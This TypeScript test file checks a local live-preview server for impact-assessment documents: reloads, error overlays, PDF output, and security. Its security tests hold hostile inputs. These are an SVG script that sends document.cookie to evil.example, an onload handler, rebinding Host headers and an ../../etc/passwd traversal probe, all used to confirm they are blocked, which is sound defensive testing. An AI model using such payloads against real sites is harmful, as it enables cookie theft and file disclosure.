/**
 * The live preview, through real Chromium: a page opened in the browser reloads after its
 * source is saved, shows errors as an overlay over the last good page, recovers when the error
 * is fixed, and makes the PDF on demand.
 */
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import path from 'node:path';
import puppeteer, { type Browser, type Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startPreview, type PreviewEvent, type PreviewServer } from '../scripts/commands/preview.ts';
import { chromiumArgs, chromiumPath } from '../scripts/render/browser.ts';
import { poppler, projectRoot, tempDir } from './helpers/workspace.ts';

describe('kia preview', () => {
  const root = tempDir();
  const content = path.join(root, 'content');
  const index = path.join(content, 'flits/index.md');
  const events: PreviewEvent[] = [];
  const console: string[] = [];
  let server: PreviewServer;
  let browser: Browser;
  let page: Page;

  const edit = (change: (text: string) => string) => writeFileSync(index, change(readFileSync(index, 'utf8')));

  beforeAll(async () => {
    cpSync(path.join(projectRoot, 'content/flits'), path.join(content, 'flits'), { recursive: true });
    server = await startPreview({ contentDir: content, port: 0, onEvent: (event) => events.push(event) });
    browser = await puppeteer.launch({ executablePath: chromiumPath(), args: chromiumArgs, headless: true, pipe: true });
    page = await browser.newPage();
    page.on('console', (message) => console.push(`${message.type()}: ${message.text()}`));
    await page.goto(`${server.url}flits/`, { waitUntil: 'load' });
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  it('serves the page with its preview bar, under a policy that allows only its own client', async () => {
    expect(await page.$eval('h1', (node) => node.textContent)).toBe('Kinderrechten Impact Assessment Flits');
    expect(await page.$eval('#kia-preview-pdf', (node) => node.getAttribute('href'))).toBe('/__kia/pdf/flits');
    // Styles and images load (same-origin), nothing is blocked.
    expect(await page.$eval('body', (node) => getComputedStyle(node).fontFamily)).toContain('Noto Sans');
    expect(await page.$eval('img', (node) => (node as HTMLImageElement).naturalWidth)).toBeGreaterThan(0);
    expect(console.filter((line) => /Content Security Policy|Refused/.test(line))).toEqual([]);
  });

  it('reloads the page when the source is saved, and reports the time', async () => {
    const reloaded = page.waitForNavigation({ waitUntil: 'load' });
    edit((text) => text.replace('Flits is een app waarmee', 'Flits is een vernieuwde app waarmee'));
    await reloaded;
    expect(await page.content()).toContain('Flits is een vernieuwde app waarmee');
    const rebuilt = events.filter((event) => event.type === 'rebuilt');
    expect(rebuilt.at(-1)).toMatchObject({ type: 'rebuilt', slug: 'flits' });
    expect((rebuilt.at(-1) as { ms: number }).ms).toBeGreaterThan(0);
  });

  it('shows an error as an overlay over the last good page, and recovers when it is fixed', async () => {
    edit((text) => text.replace('Zie ook :vraag[5.1].', 'Zie ook :vraag[5.9].'));
    await page.waitForSelector('#kia-preview-overlay', { timeout: 20_000 });
    const overlay = await page.$eval('#kia-preview-overlay', (node) => ({ role: node.getAttribute('role'), text: node.textContent ?? '' }));
    expect(overlay.role).toBe('alert');
    expect(overlay.text).toMatch(/index\.md\n\d+:\d+-\d+:\d+ error Unexpected question reference `5\.9`/);
    expect(overlay.text).toContain('unknown-question-reference');
    // The last good page is still there.
    expect(await page.content()).toContain('Flits is een vernieuwde app waarmee');
    // A fresh load of the page while it has errors shows them too.
    const other = await browser.newPage();
    await other.goto(`${server.url}flits/`, { waitUntil: 'load' });
    await other.waitForSelector('#kia-preview-overlay', { timeout: 10_000 });
    await other.close();

    const reloaded = page.waitForNavigation({ waitUntil: 'load' });
    edit((text) => text.replace('Zie ook :vraag[5.9].', 'Zie ook :vraag[5.1].'));
    await reloaded;
    expect(await page.$('#kia-preview-overlay')).toBeNull();
  });

  it('rebuilds when a response of the document changes', async () => {
    const response = path.join(content, 'flits/responses/zienswijze-flits.md');
    const reloaded = page.waitForNavigation({ waitUntil: 'load' });
    const received = readFileSync(response, 'utf8');
    writeFileSync(response, `${received}\nEen nagekomen zin van Flits Media.\n`);
    await reloaded;
    expect(await page.content()).toContain('Een nagekomen zin van Flits Media.');
    // The zienswijze names its received original: the sentence is not in it, so the PDF (which
    // proves the text equal to the original) would refuse. Back to the text as received.
    const restored = page.waitForNavigation({ waitUntil: 'load' });
    writeFileSync(response, received);
    await restored;
  });

  it('makes the PDF on demand, from the current source', async () => {
    const response = await fetch(`${server.url}__kia/pdf/flits`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect(Buffer.from(bytes.slice(0, 5)).toString('latin1')).toBe('%PDF-');
    const file = path.join(root, 'flits.pdf');
    writeFileSync(file, bytes);
    expect(poppler('pdftotext', [file, '-']).replace(/\s+/g, ' ')).toContain('Flits is een vernieuwde app waarmee');
    expect(events.some((event) => event.type === 'pdf' && event.ok)).toBe(true);
  }, 120_000);

  it('answers only to its own host names and origins, so a rebinding page cannot read the drafts', async () => {
    const port = new URL(server.url).port;
    const get = (pathname: string, headers: Record<string, string>, at = server) =>
      new Promise<{ status: number; body: string }>((resolve, reject) => {
        // An empty Host is sent as no Host header at all (HTTP/1.0 style).
        const request = httpRequest(
          {
            host: '127.0.0.1',
            port: new URL(at.url).port,
            path: pathname,
            headers: Object.fromEntries(Object.entries(headers).filter(([name, value]) => name !== 'host' || value !== '')),
            setHost: headers.host !== '',
          },
          (response) => {
            let body = '';
            response.on('data', (chunk: Buffer) => (body += chunk.toString()));
            response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
          },
        );
        request.on('error', reject);
        request.end();
      });
    for (const host of ['evil.example', `evil.example:${port}`, `127.0.0.1.evil.example:${port}`, `localhost.:${port}`]) {
      const answer = await get('/flits/', { host });
      expect(answer.status, `Host: ${host}`).toBe(403);
      expect(answer.body, host).toContain('sta een andere naam toe met kia preview --host NAAM');
    }
    // Without a Host header, Node's HTTP server answers 400 itself.
    expect((await get('/flits/', { host: '' })).status).toBe(400);
    for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`, 'LOCALHOST'])
      expect((await get('/flits/', { host })).status, host).toBe(200);
    // Work on request (the PDF, the event stream) from another site's page is refused too.
    expect((await get('/__kia/pdf/flits', { host: `localhost:${port}`, origin: 'http://evil.example' })).status).toBe(403);
    expect((await get('/__kia/errors/flits', { host: `localhost:${port}`, origin: `http://localhost:${port}` })).status).toBe(200);
    // --host allows a name.
    const named = await startPreview({ contentDir: content, port: 0, allowedHosts: ['kia.test'] });
    try {
      expect((await get('/flits/', { host: 'kia.test' }, named)).status).toBe(200);
      expect((await get('/flits/', { host: 'evil.example' }, named)).status).toBe(403);
    } finally {
      await named.close();
    }
  }, 60_000);

  it("serves an SVG only as sanitised: a script in it never runs in the preview's origin", async () => {
    const file = path.join(content, 'flits/afbeeldingen/risicomatrix.svg');
    const original = readFileSync(file, 'utf8');
    const reloaded = page.waitForNavigation({ waitUntil: 'load' });
    writeFileSync(
      file,
      original.replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>').replace('<svg ', '<svg onload="alert(1)" '),
    );
    // An image is not a source the watcher rebuilds for: touch the document.
    edit((text) => `${text}\n`);
    await reloaded;
    const answer = await fetch(`${server.url}flits/afbeeldingen/risicomatrix.svg`);
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('image/svg+xml');
    const svg = await answer.text();
    expect(svg).toContain('<svg');
    expect(svg).not.toContain('<script');
    expect(svg).not.toContain('onload');
    expect((await fetch(`${server.url}flits/afbeeldingen/onbekend.svg`)).status).toBe(404);
    writeFileSync(file, original);
  });

  it('serves nothing outside the documents and the preview files', async () => {
    for (const url of ['flits/index.md', 'flits/responses/zienswijze-flits.md', '__kia/nothing', 'onbekend/', 'flits/../../etc/passwd']) {
      expect((await fetch(`${server.url}${url}`)).status, url).toBe(404);
    }
  });
});
